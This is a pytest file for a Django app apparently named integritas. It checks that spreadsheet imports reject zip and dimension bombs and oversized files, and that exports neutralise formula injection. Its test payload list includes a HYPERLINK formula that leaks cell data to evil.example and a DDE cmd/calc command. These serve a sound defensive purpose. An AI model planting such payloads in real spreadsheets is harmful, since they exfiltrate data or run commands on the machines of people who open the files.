"""Every spreadsheet import refuses a hostile file quickly; every export writes user text as text.

Both lists below are checked against the code: a new import format (common.tabular registry), a
new export URL, or a module that builds a workbook or a CSV writer outside common fails here.
"""

import csv
import importlib
import io
import pkgutil
import re
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import get_resolver, reverse
from openpyxl import load_workbook
from openpyxl.worksheet._read_only import ReadOnlyWorksheet
from openpyxl.worksheet._reader import WorkSheetParser

import integritas
from integritas.common import staging, tabular
from integritas.common.testing import dimension_bomb, zip_bomb
from integritas.evaluation.models import Answer, HasilInput
from integritas.evaluation.tests.conftest import assessment, framework  # noqa: F401 - fixtures
from integritas.organization.models import Employee, Unit
from integritas.planning.models import ActionPlan, ActionRow
from integritas.planning.tests.conftest import make_row
from integritas.surveys.tests.conftest import answers_for, make_wave

pytestmark = pytest.mark.django_db

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"Klik")', "=1+1", "@SUM(A1:A9)", "+cmd|'/C calc'!A0"]  # fmt: skip


def _all_modules() -> None:
    root = Path(integritas.__file__).parent
    for info in pkgutil.walk_packages([str(root)], prefix="integritas."):
        if ".tests" in info.name or ".migrations" in info.name or info.name.endswith("__main__"):
            continue
        importlib.import_module(info.name)


# --------------------------------------------------------------------------- imports


@dataclass(frozen=True)
class ImportPoint:
    """Post a file to an import's first step; return (response, a snapshot of what it writes)."""

    post: Callable
    snapshot: Callable


def _post_org(kind):
    def post(world, client_for, upload):
        return client_for(world.admin).post(
            reverse("organization:import"), {"kind": kind, "file": upload}
        )

    return post


def _post_plan(world, client_for, upload):
    plan = ActionPlan.objects.get_or_create(unit=world.unit_a, year=2025)[0]
    url = reverse("planning:action_plan_import", args=[plan.pk])
    return client_for(world.kerja_a).post(url, {"file": upload})


def _post_lke(world, client_for, upload):
    from integritas.evaluation.models import Assessment

    target = Assessment.objects.get(unit=world.unit_a)
    return client_for(world.kerja_a).post(
        reverse("evaluation:import", args=[target.pk]), {"file": upload}
    )


def _post_lapor(world, client_for, upload):
    return client_for(world.admin).post(
        reverse("complaints:lapor_import"), {"berkas": upload, "unit": world.unit_a.pk}
    )


def _post_duties(world, client_for, upload):
    return client_for(world.admin).post(
        reverse("predicates:duties_import", args=[2025]), {"kind": "lhkpn", "file": upload}
    )


def _complaints():
    from integritas.complaints.models import Attachment, Complaint, Message

    return [list(m.objects.values()) for m in (Complaint, Message, Attachment)]


def _duties():
    from integritas.predicates.models import ReportingDuty

    return list(ReportingDuty.objects.values())


IMPORT_POINTS = {
    "organization.units": ImportPoint(_post_org("units"), lambda: list(Unit.objects.values())),
    "organization.employees": ImportPoint(_post_org("employees"), lambda: list(Employee.objects.values())),
    "planning.action_plan": ImportPoint(_post_plan, lambda: list(ActionRow.objects.values())),
    "evaluation.lke": ImportPoint(
        _post_lke, lambda: (list(Answer.objects.values()), list(HasilInput.objects.values()))
    ),
    "complaints.lapor": ImportPoint(_post_lapor, _complaints),
    "predicates.duties": ImportPoint(_post_duties, _duties),
}  # fmt: skip


# Formats read from a file named on an operator's command line (CSV only).
CLI_POINTS = {"surveys.answers_file": ("survey", "skm")}


def test_every_import_format_has_an_entry_point_here():
    _all_modules()
    assert set(tabular.FORMATS) == set(IMPORT_POINTS) | set(CLI_POINTS)


@pytest.mark.parametrize("name", CLI_POINTS)
def test_an_endless_answers_file_is_refused_by_the_command(tmp_path, name):
    from django.core.management import CommandError, call_command

    limits = tabular.FORMATS[name]
    path = tmp_path / "jawaban.csv"
    items = ",".join(f"U{number}" for number in range(1, 10))
    path.write_text(f"{items}\n" + "4,4,4,4,4,4,4,4,4\n" * (limits.max_rows + 1))
    with pytest.raises(CommandError) as excinfo:
        call_command(*CLI_POINTS[name], str(path))
    assert "Lembar kerja terlalu besar" in str(excinfo.value)


@pytest.fixture
def row_elements(monkeypatch):
    """Count sheet rows openpyxl parses; forbid the read-only iteration that trusts <dimension>."""
    seen: list[int] = []
    original = WorkSheetParser.parse_row

    def counting(self, element):
        seen.append(1)
        return original(self, element)

    def padding(*args, **kwargs):
        raise AssertionError("rows padded up to the size the file claims")

    monkeypatch.setattr(WorkSheetParser, "parse_row", counting)
    monkeypatch.setattr(ReadOnlyWorksheet, "_cells_by_row", padding)
    return seen


HOSTILE = {
    "dimension bomb": (dimension_bomb, "Lembar kerja terlalu besar: lebih dari"),
    "zip bomb": (zip_bomb, "Berkas XLSX tidak wajar"),
}


@pytest.mark.usefixtures("assessment")
@pytest.mark.parametrize("hostile", HOSTILE)
@pytest.mark.parametrize("name", IMPORT_POINTS)
def test_a_hostile_workbook_is_refused_at_once_and_writes_nothing(
    world, client_for, row_elements, name, hostile
):
    point = IMPORT_POINTS[name]
    before = point.snapshot()
    make, message = HOSTILE[hostile]
    response = point.post(world, client_for, SimpleUploadedFile("data.xlsx", make()))
    assert response.status_code == 200
    assert message in response.content.decode()
    assert len(row_elements) <= 2  # the header row and the one cell at row 1,048,576
    assert point.snapshot() == before
    assert not response.wsgi_request.session.get(staging.SESSION_KEY)


@pytest.mark.parametrize("name", ["organization.units", "organization.employees"])
def test_an_endless_csv_is_refused_after_its_cap(world, client_for, name):
    limits = tabular.FORMATS[name]
    data = ("kode;nama\n" + "X;Y\n" * (limits.max_rows + 5)).encode()
    response = IMPORT_POINTS[name].post(world, client_for, SimpleUploadedFile("data.csv", data))
    assert "Lembar kerja terlalu besar" in response.content.decode()


def test_the_commit_button_of_an_older_preview_commits_nothing(world, client_for):
    from integritas.planning import xlsx

    source = ActionPlan.objects.create(unit=world.unit_a, year=2024)
    make_row(source, "MP", order=1)
    first = xlsx.export(source, list(source.rows.all()))
    make_row(source, "PP", order=2)
    second = xlsx.export(source, list(source.rows.all()))
    target = ActionPlan.objects.create(unit=world.unit_a, year=2026)
    client = client_for(world.kerja_a)
    url = reverse("planning:action_plan_import", args=[target.pk])
    old = client.post(url, {"file": SimpleUploadedFile("a.xlsx", first)}).context["import_token"]
    new = client.post(url, {"file": SimpleUploadedFile("b.xlsx", second)}).context["import_token"]
    commit = reverse("planning:action_plan_import_commit", args=[target.pk])
    client.post(commit, {staging.TOKEN_FIELD: old})
    assert not target.rows.exists()
    client.post(commit, {staging.TOKEN_FIELD: new})
    assert target.rows.count() == 2


# --------------------------------------------------------------------------- exports


def _lke_export(world):
    from integritas.evaluation import services
    from integritas.evaluation.models import Assessment

    target = Assessment.objects.get(unit=world.unit_a)
    for code, text in zip(["P1.i.a", "P1.i.b", "P1.ii.a", "P1.ii.b"], ATTACKS, strict=True):
        services.answer_save(
            assessment=target, question_code=code, option_label="", note=text, by=world.kerja_a
        )
    return world.kerja_a, reverse("evaluation:export_excel", args=[target.pk])


def _plan_export(world):
    plan = ActionPlan.objects.create(unit=world.unit_a, year=2027)
    make_row(
        plan, "MP", goal=ATTACKS[0], indicator=ATTACKS[1], action=ATTACKS[2], pic_text=ATTACKS[3]
    )
    return world.kerja_a, reverse("planning:action_plan_xlsx", args=[plan.pk])


def _survey_export(what, fmt):
    def build(world):
        from integritas.surveys import services

        wave = make_wave(world, kind="skm", services_spec=((ATTACKS[0], 100), (ATTACKS[2], 50)))
        for number, service in enumerate(wave.services.all()):
            services.response_enter_paper(
                wave=wave, service=service, answers=answers_for(wave, 3), profile={},
                sheet_number=str(number), by=world.kerja_a,
            )  # fmt: skip
        return world.staff_a, reverse("surveys:export", args=[wave.pk, what, fmt])

    return build


def _template_export(kind):
    def build(world):
        return world.admin, reverse("organization:import_template", args=[kind])

    return build


def _lapor_template(world):
    return world.admin, reverse("complaints:lapor_template")


def _dashboard_export(world):
    type(world.unit_a).objects.filter(pk=world.unit_a.pk).update(name=ATTACKS[0])
    type(world.unit_b).objects.filter(pk=world.unit_b.pk).update(name=ATTACKS[1])
    return world.pimpinan, reverse("portal:city_dashboard_xlsx")


# URL name -> (case, builder planting hostile text in the user fields the export writes).
EXPORT_POINTS = {
    "evaluation:export_excel": [("lke.xlsx", _lke_export)],
    "planning:action_plan_xlsx": [("lampiran-c.xlsx", _plan_export)],
    "surveys:export": [
        (f"{what}.{fmt}", _survey_export(what, fmt))
        for what in ("jawaban", "hasil")
        for fmt in ("csv", "xlsx")
    ],
    "organization:import_template": [
        (f"templat-{kind}.csv", _template_export(kind)) for kind in ("units", "employees")
    ],
    "complaints:lapor_template": [("impor-sp4n-lapor.csv", _lapor_template)],
    "portal:city_dashboard_xlsx": [("dasbor.xlsx", _dashboard_export)],
}
# Blank import templates: no user text to plant, only the column names.
TEMPLATES = {"organization:import_template", "complaints:lapor_template"}
EXPORT_CASES = [
    pytest.param(name, build, id=f"{name}-{case}")
    for name, builds in EXPORT_POINTS.items()
    for case, build in builds
]


def _body(response) -> bytes:
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


@pytest.mark.usefixtures("assessment")
@pytest.mark.parametrize(("name", "build"), EXPORT_CASES)
def test_no_export_writes_user_text_as_a_formula(world, client_for, name, build):
    user, url = build(world)
    response = client_for(user).get(url)
    assert response.status_code == 200
    body = _body(response)
    planted = name not in TEMPLATES
    if body.startswith(b"PK"):
        book = load_workbook(io.BytesIO(body))
        cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
        assert [c.coordinate for c in cells if c.data_type == "f"] == []
        texts = {c.value for c in cells if c.data_type == "s"}
        assert not planted or set(ATTACKS) & texts
    else:
        rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
        values = [v for row in rows for v in row]
        assert not [v for v in values if v[:1] in ("=", "+", "@", "\t", "\r")]
        assert not [
            v for v in values if v.startswith("-") and not re.fullmatch(r"-\d+([.,]\d+)?", v)
        ]
        assert not planted or {"'" + a for a in ATTACKS} & set(values)


EXPORT_ROUTE = re.compile(r"xlsx|csv|excel|ekspor|export|unduh-data", re.IGNORECASE)


def test_every_spreadsheet_export_url_is_in_the_list_above():
    found = set()

    def walk(patterns, namespace=""):
        for pattern in patterns:
            if hasattr(pattern, "url_patterns"):
                inner = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
                walk(pattern.url_patterns, inner)
            elif pattern.name and EXPORT_ROUTE.search(str(pattern.pattern)):
                found.add(f"{namespace}{pattern.name}")

    walk(get_resolver().url_patterns)
    assert found == set(EXPORT_POINTS)


# Building a workbook, reading one, or writing/reading CSV is done only in common.
FORBIDDEN = re.compile(
    r"\bload_workbook\b|\bWorkbook\s*\(|from openpyxl import [^\n]*\bWorkbook\b|WorkSheetParser"
    r"|\bcsv\.(writer|reader|DictWriter|DictReader)\b|\.cell\([^)\n]*value\s*="
)
OWNERS = {"common/tabular.py", "common/exports.py", "common/testing.py"}


def test_no_module_builds_or_reads_a_spreadsheet_outside_common():
    root = Path(integritas.__file__).parent
    offenders = []
    for path in sorted(root.rglob("*.py")):
        relative = path.relative_to(root).as_posix()
        if "/tests/" in f"/{relative}" or relative in OWNERS:
            continue
        for number, line in enumerate(path.read_text().splitlines(), start=1):
            if FORBIDDEN.search(line):
                offenders.append(f"{relative}:{number}: {line.strip()}")
    assert offenders == []
